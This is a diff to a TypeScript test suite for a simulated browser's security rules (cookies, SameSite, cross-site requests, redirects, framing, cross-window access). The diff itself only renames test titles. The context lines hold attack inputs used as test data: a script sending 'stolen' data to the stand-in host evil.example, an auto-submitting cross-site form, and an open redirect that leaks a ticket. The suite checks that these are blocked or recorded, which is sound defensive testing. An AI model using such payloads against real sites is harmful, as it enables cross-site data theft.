@@ -38,7 +38,7 @@ const names = (cookie = '') =>
 const ofKind = (events: WorldEvent[], kind: string) => events.filter((event) => event.kind === kind);
 
 describe('The cookie jar (RFC 6265bis)', () => {
-  it('stores allowed cookies, hides HttpOnly from scripts, and expires cookies by the clock', () => {
+  it('the cookie jar stores allowed cookies, hides HttpOnly from scripts, and expires cookies by the clock', () => {
     const { browser, later } = open();
     browser.visit('/in');
     const stored = browser
@@ -137,7 +137,7 @@ describe('The cookie jar (RFC 6265bis)', () => {
         ),
       ALL,
     ],
-  ])('applies SameSite to %s', (_name, work, expected) => {
+  ])('SameSite is applied to %s', (_name, work, expected) => {
     const { browser, seen } = open();
     browser.visit('/in');
     work(browser);
@@ -146,7 +146,7 @@ describe('The cookie jar (RFC 6265bis)', () => {
   });
 });
 
-describe('Headers a page cannot forge', () => {
+describe('headers that a page cannot forge', () => {
   it.each<[string, string, Record<string, string | undefined>]>([
     [
       'a form',
@@ -179,7 +179,7 @@ describe('Headers a page cannot forge', () => {
       '<iframe src="data:text/html,<form method=post action=https://app.test/saw></form><script>document.forms[0].submit()</script>"></iframe>',
       { origin: 'null' },
     ],
-  ])('are set by the browser for %s', (_name, html, expected) => {
+  ])('the browser sets the headers for %s', (_name, html, expected) => {
     const { browser, seen } = open();
     browser.visitAttacker(html);
     const headers = seen()[0]?.headers ?? {};
@@ -188,7 +188,7 @@ describe('Headers a page cannot forge', () => {
 });
 
 describe('A request across sites', () => {
-  it('uses the session where the app set its cookie for that', () => {
+  it('a request across sites uses the session if the app set its cookie for that', () => {
     const program = buildProgram(
       "app.get('/open', (q, r) => { sessions.open(r, 'ada', { sameSite: q.query.same }); r.send('<p>in</p>'); }); app.post('/pay', (q, r) => r.send('' + sessions.user(q)));",
     );
@@ -204,7 +204,7 @@ describe('A request across sites', () => {
     expect(['None', 'Lax', 'Strict'].map(userOf)).toEqual(['ada', '', '']);
   });
 
-  it('that changes something is an event, with the session it used', () => {
+  it('a request across sites that changes something is an event, with the session it used', () => {
     const { browser } = open();
     browser.visit('/in');
     const { events } = browser.visitAttacker(
@@ -223,7 +223,7 @@ describe('A request across sites', () => {
     ]);
   });
 
-  it('to a foreign host is an event and is not sent', () => {
+  it('a request to a foreign host is an event and is not sent', () => {
     const { browser } = open();
     const code =
       'fetch("https://evil.example/c?" + 1, { method: "POST", body: "stolen" }); new Image().src = "https://evil.example/i"; navigator.sendBeacon("https://evil.example/b", "x"); location = "https://evil.example/l"';
@@ -245,7 +245,7 @@ describe('A redirect of the app', () => {
       (browser: Browser) =>
         browser.visitAttacker('<script>location = "https://app.test/go?to=//evil.example/c"</script>'),
     ],
-  ])('to another host discloses what its address holds: %s', (_name, lead) => {
+  ])('a redirect to another host discloses what its address contains: %s', (_name, lead) => {
     const { browser } = open();
     const { events } = lead(browser);
     const sent = { kind: 'outgoing', by: 'page', url: 'https://evil.example/c?ticket=7' };
@@ -253,7 +253,7 @@ describe('A redirect of the app', () => {
     const noted = browser.exchanges().flatMap((exchange) => exchange.events);
     expect(ofKind(noted, 'outgoing')).toMatchObject([sent]);
   });
-  it('within the app discloses nothing', () => {
+  it('a redirect within the app discloses nothing', () => {
     const { browser } = open();
     expect(ofKind(browser.visit('/go?to=/saw').events, 'outgoing')).toEqual([]);
   });
@@ -268,7 +268,7 @@ describe('A frame of the app in a foreign page', () => {
     ["fa='self'", 'csp'],
     ['fa=https://evil.example', 'framed'],
     ['xfo=DENY&fa=https://*.example', 'framed'],
-  ])('with %s is %s', (query, kind) => {
+  ])('a frame with %s is %s', (query, kind) => {
     const { browser } = open();
     const { events } = browser.visitAttacker(`<iframe src="https://app.test/frame?${query}"></iframe>`);
     expect(
@@ -278,7 +278,7 @@ describe('A frame of the app in a foreign page', () => {
 });
 
 describe('Windows', () => {
-  it('exchange messages, with the origin they come from', () => {
+  it('windows exchange messages, with the origin they come from', () => {
     const { browser } = open();
     const listen =
       'addEventListener("message", (e) => { alert(e.origin + " " + e.data.x); e.source.postMessage("back", e.origin) })';
@@ -291,7 +291,7 @@ describe('Windows', () => {
     ]);
   });
 
-  it('of another origin cannot be read', () => {
+  it('windows of another origin cannot be read', () => {
     const { browser } = open();
     const { dialogs } = browser.visitAttacker(
       '<iframe src="https://app.test/frame"></iframe><script>onload = () => { try { alert(frames[0].document.body.innerHTML) } catch (e) { alert("no") } }</script>',
@@ -299,7 +299,7 @@ describe('Windows', () => {
     expect(dialogs.map(({ message }) => message)).toEqual(['no']);
   });
 
-  it('of the same origin can be read', () => {
+  it('windows of the same origin can be read', () => {
     const { browser } = open();
     const { dialogs } = browser.visit(
       `/js?q=${encodeURIComponent('onload = () => { const f = document.createElement("iframe"); f.src = "/frame"; f.onload = () => alert(f.contentDocument.getElementById("p").textContent); document.body.append(f) }')}`,
